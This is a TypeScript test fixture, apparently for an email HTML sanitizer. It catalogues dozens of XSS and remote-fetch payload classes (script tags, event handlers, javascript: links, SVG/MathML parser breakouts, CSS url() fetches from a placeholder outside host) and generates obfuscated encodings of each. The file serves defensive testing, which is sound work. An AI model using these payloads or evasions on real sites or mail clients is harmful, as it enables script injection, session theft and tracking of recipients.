/**
 * HTML that tries to run, to leave its frame or to be fetched: classes of attacks that were published over the years, in
 * words of our own, each in several encodings and places. `RUN` is what is to run, `OUT` an address outside.
 */

/** What runs says so on the page itself, and on the one around it. */
export const running = "top.hit=parent.hit=window.hit=1";

export const classes: Record<string, string> = {
  "a script": "<script>RUN</script>",
  "a script from outside": "<script src=OUT/x.js></script>",
  "a script in broken letters": "<ScRiPt/x>RUN</sCrIpT >",
  "a script in a script": "<scr<script>ipt>RUN</scr</script>ipt>",
  "an unfinished script": "<script>RUN",
  "a picture that fails": "<img src=x onerror=RUN>",
  "a picture with a slash": "<img/src='x'/onerror=RUN//",
  "a picture with a quote in its name": '<img src="x` `"onerror="RUN">',
  "a picture of many sizes": "<img srcset='OUT/a.png 1x' src=x onerror=RUN>",
  "a picture in a picture": "<picture><source srcset='OUT/b.png'><img src=x onerror='RUN'></picture>",
  "an old picture": "<image src=x onerror=RUN>",
  "a drawing": "<svg onload=RUN>",
  "a drawing with a script": "<svg><script href='data:text/javascript,RUN'/></svg>",
  "a drawing that moves": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
  "a drawing that sets a link":
    "<svg><a><set attributeName=href to=javascript:RUN /><text y=20>click</text></a></svg>",
  "a drawing in a drawing": "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
  "a drawing that uses another": "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN/>#x'></svg>",
  "a formula":
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>",
  "a formula that is a link": "<math href=javascript:RUN>click</math>",
  "a style in a drawing": "<svg><style><img title='</style><img src=x onerror=RUN>'></style></svg>",
  "a link that runs": "<a href='javascript:RUN'>click</a>",
  "a link with a gap": "<a href='java&#10;script:RUN'>click</a>",
  "a link with a control character": "<a href='&#1;javascript:RUN'>click</a>",
  "a link of another script": "<a href='vbscript:RUN'>click</a>",
  "a link to data": "<a href='data:text/html,<script>RUN</script>'>click</a>",
  "a link over everything": "<a href='javascript:RUN' style='position:fixed;inset:0;z-index:99'>click</a>",
  "a link above the frame": "<a href='OUT/top' target=_top>click</a>",
  "a frame": "<iframe src='javascript:RUN'></iframe>",
  "a frame with a page in it": "<iframe srcdoc='<script>RUN</script>'></iframe>",
  "a frame from outside": "<iframe src='OUT/frame'></iframe>",
  "an object": "<object data='javascript:RUN'></object><embed src='OUT/e.swf'>",
  "an object with data": "<object data='data:text/html,<script>RUN</script>'></object>",
  "a form": "<form action='javascript:RUN' id=f><button>click</button></form>",
  "a button with a form elsewhere":
    "<form id=f></form><button form=f formaction='javascript:RUN'>click</button>",
  "a form to outside":
    "<form action='OUT/form'><input type=image src='OUT/i.png'><button>click</button></form>",
  "a field that takes the focus": "<input onfocus=RUN autofocus><textarea onfocus=RUN autofocus></textarea>",
  "a box that is opened": "<details open ontoggle=RUN><summary>click</summary></details>",
  "a text that runs along": "<marquee onstart=RUN>x</marquee>",
  "sound and film": "<video src=x onerror=RUN></video><audio src=OUT/a.mp3 onerror=RUN autoplay></audio>",
  "a film's picture": "<video poster='OUT/p.png'><source onerror=RUN></video>",
  "a body": "<body onload=RUN background='OUT/bg.png'>",
  "a set of frames": "<frameset onload=RUN><frame src='javascript:RUN'></frameset>",
  "a new address": "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
  "a new address outside": "<meta http-equiv=refresh content='0;url=OUT/refresh'>",
  "another base": "<base href='OUT/'><a href='x'>click</a><img src='y.png'>",
  "a style sheet":
    "<link rel=stylesheet href='OUT/s.css'><link rel=prefetch href='OUT/p'><link rel=preload as=image href='OUT/q.png'>",
  "a style that fetches": "<style>@import 'OUT/i.css';body{background:url(OUT/b.png)}</style><p>x</p>",
  "a style of its own that fetches": "<p style=\"background:url('OUT/c.png')\">x</p>",
  "a style that is escaped": "<p style='background:\\75\\72\\6c(OUT/d.png)'>x</p>",
  "a style with a comment": "<p style='background:ur/**/l(OUT/e.png);width:expr/**/ession(RUN)'>x</p>",
  "a style that binds": "<p style='-moz-binding:url(OUT/x.xml#x);behavior:url(OUT/x.htc)'>x</p>",
  "a style that moves": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=RUN>x</p>",
  "a mark that is clicked": "<p onclick=RUN onmouseover=RUN onpointerrawupdate=RUN>click</p>",
  "a mark of no kind": "<x onclick=RUN onfocusin=RUN tabindex=0 contenteditable>click</x>",
  "names of ours": "<img name=getElementById id=document src=x onerror=RUN><form id=body name=cookie></form>",
  "a comment that ends early": "<!--><img src=x onerror=RUN>-->",
  "a comment of another kind": "<!-- --!><img src=x onerror=RUN><!-- -->",
  "a section of data": "<![CDATA[<img src=x onerror=RUN>]]>",
  "a text that is no script": "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
  "a title that ends": "<title><p title='</title><img src=x onerror=RUN>'></title>",
  "a text box that ends": "<textarea><p title='</textarea><img src=x onerror=RUN>'></textarea>",
  "an example that ends":
    "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp><plaintext><img src=x onerror=RUN>",
  "a template":
    "<template><img src=x onerror=RUN></template><template shadowrootmode=open><img src=x onerror=RUN></template>",
  "an instruction": "<?xml-stylesheet href='javascript:RUN'?><?php <img src=x onerror=RUN> ?>",
  "a table that holds no picture": "<table><tr><img src=x onerror=RUN><td background='OUT/t.png'>x</table>",
  "a list in a choice":
    "<select><option><img src=x onerror=RUN></option><keygen autofocus onfocus=RUN></select>",
  "a citation":
    "<blockquote cite='javascript:RUN'><q cite='OUT/q'>x</q></blockquote><ins cite='javascript:RUN'>x</ins>",
  "a link that is measured": "<a href='https://ok.example' ping='OUT/ping' download>kept</a>",
  "a picture counted": "<img src='OUT/one.png' width=1 height=1><img src='//OUTHOST/two.png'>",
  "a picture of ours": "<img src='/desk'><img src='/interactions/x/attachments/y'><img src='about:blank'>",
  "a popover": "<button popovertarget=p>click</button><p popover id=p onbeforetoggle=RUN>x</p>",
  "nested beyond measure": `${"<div>".repeat(2000)}<img src=x onerror=RUN>`,
};

const entities = (text: string) =>
  text.replace(/[a-z:(=.]/gi, (one) => `&#x${one.charCodeAt(0).toString(16)};`);
const mixed = (text: string) =>
  text.replace(
    /\b(onerror|onload|javascript|script|style|href|src)\b/gi,
    (word) => [...word].map((one, place) => place % 2 ? one.toUpperCase() : one).join(""),
  );

/** Ways to write it. What a way leaves unchanged is not told twice. */
const encodings: ((html: string) => string)[] = [
  (html) => html,
  mixed,
  // In the values of attributes only: a browser reads entities there.
  (html) => html.replace(/(javascript:[^\s'">]+)/gi, (value) => entities(value)),
  (html) => html.replace(/<(\w+) /g, "<$1\f\n"),
  (html) => html.replace(/<(\w)/g, "<\0$1").replaceAll("javascript:", "java\tscript:"),
  (html) => html.replaceAll("'", "&apos;").replaceAll("javascript", "java&Tab;script"),
];

/** Places in an email. */
const places: ((html: string) => string)[] = [
  (html) => html,
  (html) => `<html><head>${html}</head><body>${html}</body></html>`,
  (html) => `<blockquote type="cite"><table><tr><td>${html}</td></tr></table></blockquote>`,
  (html) => `<div title="${html.replaceAll('"', "&quot;")}">x</div><p title='${html}'>y</p>`,
];

export interface Hostile {
  name: string;
  html: string;
}

/** Every class in every encoding and place, once each. `out`: the origin that nothing may be fetched from. */
export function hostileMails(out: string): Hostile[] {
  const filled = (html: string) =>
    html.replaceAll("RUN", running).replaceAll("OUTHOST", new URL(out).host).replaceAll("OUT", out);
  const found = new Map<string, string>();
  for (const [name, html] of Object.entries(classes)) {
    for (const [way, encode] of encodings.entries()) {
      for (const [where, place] of places.entries()) {
        const whole = filled(place(encode(html)));
        if (!found.has(whole)) found.set(whole, `${name}, encoding ${way + 1}, place ${where + 1}`);
      }
    }
  }
  return [...found].map(([html, name]) => ({ name, html }));
}
